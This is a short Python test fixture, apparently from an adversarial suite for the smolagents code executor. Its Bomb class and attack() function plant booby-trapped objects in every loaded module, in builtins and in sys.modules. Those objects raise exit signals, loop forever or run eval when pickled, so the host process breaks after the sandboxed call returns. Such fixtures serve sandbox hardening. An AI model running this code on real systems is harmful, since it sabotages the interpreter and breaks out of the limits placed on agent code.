# From: smolagents issue 2395: methods that somebody else's machinery calls later, long after the limits of the call.
# Ends: {"kept":1}
# Ruins: leaves objects behind that fail whoever touches them
import builtins
import gc
import sys
import weakref


class Bomb:
    def __getattribute__(self, name):
        raise SystemExit(name)

    def __eq__(self, other):
        while True:
            pass

    __hash__ = None

    def __del__(self):
        raise KeyboardInterrupt

    def __reduce_ex__(self, protocol):
        return (eval, ("1/0",))

    def __format__(self, spec):
        raise GeneratorExit

    def __set_name__(self, owner, name):
        raise SystemExit


def attack(probe):
    bomb = Bomb()
    weakref.finalize(Bomb, print, "finalized")
    for module in list(sys.modules.values()):
        try:
            module.__dict__["_left"] = bomb
        except Exception:
            pass
    sys.modules["left"] = bomb
    builtins.__dict__["_left"] = bomb
    gc.callbacks.append(lambda phase, info: None)
    kind = type("int", (int,), {"__index__": lambda self: 1 / 0, "__str__": lambda self: 1 / 0, "__eq__": lambda self, other: 1 / 0, "__hash__": int.__hash__})
    return {"kept": kind(1)}
